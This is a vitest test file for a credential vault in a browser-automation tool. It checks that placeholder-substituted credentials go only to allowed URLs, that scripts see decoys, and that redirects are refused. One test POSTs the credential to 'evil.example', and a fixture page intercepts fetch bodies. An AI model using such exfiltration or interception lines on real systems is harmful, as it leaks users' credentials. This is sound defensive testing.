import { parseAllowedUrls } from '@countersign/protocol/vault/url-scope';
import { parseTemplate } from '@countersign/protocol/vault/placeholder';
import { readScript } from '@countersign/review/script/read';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { browserFor, type OpenedBrowser, secretOf, type Site, siteOf } from '../../../test/chromium.ts';
import type { Text } from './browser.ts';

const credential = {
  '@context': ['https://www.w3.org/2018/credentials/v1'],
  type: 'VerifiableCredential',
  credentialSubject: { id: 'did:example:ada', name: 'Ada "the" Countess & Čapek', age: 37, score: -1.5 },
};
const whole = JSON.stringify(credential, null, 1);
const fields: Record<string, string> = { credential_json: whole, did: 'did:example:ada-lovelace' };

let site: Site;
let browser: OpenedBrowser;
beforeAll(async () => {
  site = await siteOf(({ method, url, body }, headers) => {
    if (url === '/moved') return { status: 307, headers: { location: '/elsewhere' } };
    if (method !== 'GET')
      return {
        headers: { 'content-type': 'application/json', 'x-seen': String(headers['x-sent'] ?? '') },
        body: JSON.stringify({ said: body, cookie: headers.cookie ?? '' }),
      };
    return {
      headers: { 'set-cookie': 'visit=1' },
      body: `<link rel="icon" href="data:,"><h1>Verify</h1>
        ${url === '/' ? '<form method="post" action="/diploma">' : ''}<label>Diploma <textarea name="diploma"></textarea></label>
        <button id="send">Send</button>${url === '/' ? '</form>' : ''}
        <button id="parsed" onclick="fetch('/parsed', {method: 'POST', headers: {'content-type': 'application/json'},
          body: JSON.stringify({vp: JSON.parse(document.querySelector('textarea').value)})})">Send</button>
        <script>window.fetch = new Proxy(fetch, {apply(f, self, args) { document.title = args[1].body; return f(...args) }})</script>`,
    };
  });
  browser = await browserFor([site.url]);
});
afterAll(async () => {
  await browser.close();
  await browser.stop();
  await site.stop();
});
const go = (path: string) =>
  browser.perform({ operation_type: 'navigate', value: site.url + path }, [site.url + path]);
beforeEach(async () => {
  await go('/');
  site.received.length = 0;
  browser.alarms.length = 0;
});

const posts = () => site.received.filter(({ method }) => method !== 'GET');

function textOf(value: string, allowed: string[] = []): Text {
  const template = parseTemplate(value);
  if (!template.ok) throw new Error(template.error);
  return template.value.map((part) =>
    'text' in part
      ? part.text
      : secretOf(fields[part.field] ?? '', { allowedUrls: parseAllowedUrls(allowed) }),
  );
}

async function run(value: string, allowed: string[] = []) {
  const operation = { operation_type: 'execute_script', value } as const;
  await browser.observe(operation);
  return browser.perform(operation, textOf(value, allowed), readScript(value));
}

const vc = '{{CREDENTIAL.credential_json}}';

test.each([
  ['as it is', vc, (body: string) => body === whole],
  [
    'as an object',
    `JSON.stringify({vp: ${vc}, did: {{CREDENTIAL.did}}})`,
    (body: string) => body === `{"vp":${whole},"did":"${fields['did']}"}`,
  ],
  [
    'as text at any depth',
    `JSON.stringify({a: [JSON.stringify({vp: '${vc}'})]})`,
    (body: string) => body === JSON.stringify({ a: [JSON.stringify({ vp: whole })] }),
  ],
  [
    'in a form',
    `new URLSearchParams({vp: ${vc}, keep: 'ü'})`,
    (body: string) => Object.fromEntries(new URLSearchParams(body))['vp'] === whole,
  ],
])(
  'the site receives the credential %s, once, and the script hears decoys [vault.review.identity.presentation]',
  async (_, body, isRight) => {
    const answer = await run(
      `const r = await fetch('/verify', {method: 'POST', headers: {'X-Sent': 'it'}, body: ${body}}); return {...await r.json(), status: r.status, seen: r.headers.get('x-seen'), title: document.title}`,
    );
    expect(posts().map(({ url }) => url)).toEqual(['/verify']);
    expect(isRight(posts()[0]?.body ?? '')).toBe(true);
    expect(browser.alarms).toEqual([]);
    expect(answer).toMatchObject({
      ok: true,
      value: { cookie: 'visit=1', status: 200, seen: 'it', title: '' },
    });
    expect(JSON.stringify(answer)).not.toMatch(/Countess|lovelace|example:ada/);
  },
);

test('several are sent in their order, each answered', async () => {
  const answer = await run(
    `const a = await fetch('/one', {method: 'POST', body: ${vc}}); const b = await fetch('/two', {method: 'PUT', body: {{CREDENTIAL.did}}}); return [a.url, b.url]`,
  );
  expect(answer).toEqual({ ok: true, value: [`${site.url}/one`, `${site.url}/two`] });
  expect(posts().map(({ method, body }) => [method, body])).toEqual([
    ['POST', whole],
    ['PUT', fields['did']],
  ]);
  expect(browser.alarms).toEqual([]);
});

test('out of the scope of credential or session nothing is sent', async () => {
  const script = (url: string) => `await fetch('${url}', {method: 'POST', body: ${vc}})`;
  const refused = { ok: false, error: { code: 'out_of_scope' } };
  expect(await run(script('/verify'), [`${site.url}/other/*`])).toMatchObject(refused);
  expect(await run(script('https://evil.example/'))).toMatchObject(refused);
  expect(posts()).toEqual([]);
});

test('a site that sends a presentation elsewhere is not followed, and that is no alarm', async () => {
  const answer = await run(`await fetch('/moved', {method: 'POST', body: ${vc}})`);
  expect(answer).toMatchObject({ ok: false, error: { code: 'script_failed' } });
  expect(site.received.map(({ url }) => url)).not.toContain('/elsewhere');
  expect(browser.alarms).toEqual([]);
});

const fill = (value: string) => {
  const operation = { operation_type: 'fill', selector: 'textarea', value } as const;
  return browser.observe(operation).then(() => browser.perform(operation, textOf(value)));
};

test('filled into a field it stands there as another object of its outline, and is sent by the form [vault.sandbox.decoy.object]', async () => {
  expect(await fill(vc)).toEqual({ ok: true, value: null });
  const read = await run(`return JSON.parse(document.querySelector('textarea').value)`);
  const decoy = (read.ok ? read.value : null) as typeof credential;
  expect(decoy).toMatchObject({ credentialSubject: { age: expect.any(Number), score: expect.any(Number) } });
  expect(Object.keys(decoy.credentialSubject)).toEqual(Object.keys(credential.credentialSubject));
  expect(decoy.credentialSubject.name).not.toBe(credential.credentialSubject.name);
  await browser.observe({ operation_type: 'click', selector: '#send' });
  await browser.perform({ operation_type: 'click', selector: '#send' }, []);
  expect(JSON.parse(new URLSearchParams(posts()[0]?.body).get('diploma') ?? '')).toEqual(credential);
  expect(browser.alarms).toEqual([]);
});

test('a page that reads it and sends it within other JSON sends the credential [vault.sandbox.decoy.object]', async () => {
  await go('/without-form');
  await fill(vc);
  const click = { operation_type: 'click', selector: '#parsed' } as const;
  await browser.observe(click);
  await browser.perform(click, []);
  await browser.perform({ operation_type: 'wait', value: 200 }, []);
  expect(JSON.parse(posts()[0]?.body ?? '')).toEqual({ vp: credential });
  expect(browser.alarms).toEqual([]);
});
